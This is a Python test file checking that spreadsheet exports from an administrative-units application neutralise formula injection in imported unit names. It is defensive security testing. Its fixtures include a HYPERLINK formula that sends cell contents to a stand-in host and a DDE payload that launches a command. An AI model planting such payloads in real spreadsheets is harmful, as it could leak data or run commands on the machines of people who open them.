"""Formula injection on the way out: a unit imported with a name a spreadsheet would run
("=HYPERLINK(...)", "+1", "-2", "@SUM(...)") comes back in every exported workbook as inert text.

Read back with openpyxl (a formula cell has data type "f") and in the raw sheet XML (a formula
is an ``<f>`` element): neither may appear for user data.
"""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from antt.accounts.services import issue_token
from antt.recognition import services
from antt.recognition.models import Registration
from antt.units.import_service import import_parsed
from antt.units.imports import parse_units_file
from antt.units.models import Unit

pytestmark = pytest.mark.django_db

NAMES = {
    "00070-TDP61": '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")',
    "00070-TDP62": "+84 912 345 678",
    "00070-TDP63": "-1+2",
    "00070-TDP64": "@SUM(1,2)",
    "00070-TDP65": "=1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv_cell(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


@pytest.fixture
def imported(tree: Any) -> dict[str, Unit]:
    lines = ["code,name,kind,parent_code,valid_from"] + [
        f"{code},{_csv_cell(name)},residential_area,00070,2025-07-01"
        for code, name in NAMES.items()
    ]
    parsed = parse_units_file("\n".join(lines).encode(), "don-vi.csv")
    report = import_parsed(actor="test", parsed=parsed, dry_run=False)
    assert report.ok, [str(e) for e in report.errors]
    assert report.written
    units = {u.code: u for u in Unit.objects.filter(code__in=NAMES)}
    assert {code: u.name for code, u in units.items()} == NAMES  # stored as typed
    for unit in units.values():  # in the lists of the report: registered, not met
        reg = services.register_unit(actor="test", unit=unit, year=2025)
        Registration.objects.filter(pk=reg.pk).update(state="decided_not_met", result="not_met")
    return units


def _assert_inert(content: bytes) -> set[str]:
    """Every cell of every sheet: no formula; text starting like one is a string. Returns the
    texts found."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
    texts: set[str] = set()
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(FORMULA_START):
                        assert cell.data_type == "s"
    return texts


@pytest.mark.parametrize("scope", ["00070", "01"])
def test_an_imported_formula_name_is_exported_as_text_by_the_api(
    client: Any, personas: Any, imported: dict[str, Unit], scope: str
) -> None:
    token = issue_token(actor="test", user=personas.national_admin).key
    response = client.get(
        "/api/v1/reports/summary/",
        {"year": 2025, "scope": scope, "format": "xlsx"},
        HTTP_AUTHORIZATION=f"Token {token}",
        secure=True,
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    texts = _assert_inert(response.content)
    assert set(NAMES.values()) <= texts  # the names are there, as the text they are


def test_an_imported_formula_name_is_exported_as_text_by_the_reports_page(
    client: Any, personas: Any, imported: dict[str, Unit]
) -> None:
    client.force_login(personas.commune_a1_officer)
    response = client.get(
        "/reports/download/",
        {"report": "summary", "format": "xlsx", "year": 2025, "scope": "00070"},
        secure=True,
    )
    assert response.status_code == 200, response
    assert response["Content-Disposition"].startswith("attachment;")
    assert set(NAMES.values()) <= _assert_inert(response.content)


def test_the_review_workbook_is_inert_too(
    client: Any, personas: Any, imported: dict[str, Unit]
) -> None:
    token = issue_token(actor="test", user=personas.national_admin).key
    response = client.get(
        "/api/v1/reports/review/",
        {"years": "2024-2025", "scope": "00070", "format": "xlsx"},
        HTTP_AUTHORIZATION=f"Token {token}",
        secure=True,
    )
    assert response.status_code == 200
    _assert_inert(response.content)


def test_the_scope_evaluation_job_spreadsheet_is_inert(imported: dict[str, Unit]) -> None:
    """The workbook a scope-evaluation job leaves for download (write-only openpyxl)."""
    from antt.jobs.exports import evaluation_xlsx

    units = [
        {
            "unit": code,
            "name": name,
            "kind": "residential_area",
            "standard": "tt124-2021",
            "result": "not_met",
            "failed": ["1.1"],
            "pending": [],
        }
        for code, name in NAMES.items()
    ]
    data = {
        "year": 2025,
        "scope": "00070",
        "scope_name": "=cmd|' /C calc'!A0",  # DDE
        "units": units,
        "summary": {
            "residential_area": {
                "met": 0, "not_met": 5, "pending": 0, "total": 5, "ineligible": 1
            }
        },
        "ineligible": [
            {"unit": "00070-X", "name": "@SUM(1,2)", "kind": "agency", "reason": "-1"}
        ],
    }
    texts = _assert_inert(evaluation_xlsx(data))
    assert set(NAMES.values()) | {"@SUM(1,2)", "-1"} <= texts


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "==", "-"])
def test_make_inert_keeps_formula_like_text_as_a_string(value: str) -> None:
    from openpyxl import Workbook

    from antt.core.tabular import inert_row, make_inert

    book = Workbook()
    sheet = book.active
    cell = make_inert(sheet.cell(row=1, column=1, value=value))
    sheet.append(inert_row(sheet, [value, 42, None, "Tổ dân phố 1"]))
    out = io.BytesIO()
    book.save(out)
    texts = _assert_inert(out.getvalue())
    assert cell.data_type == "s"
    assert value.strip() in {t.strip() for t in texts}
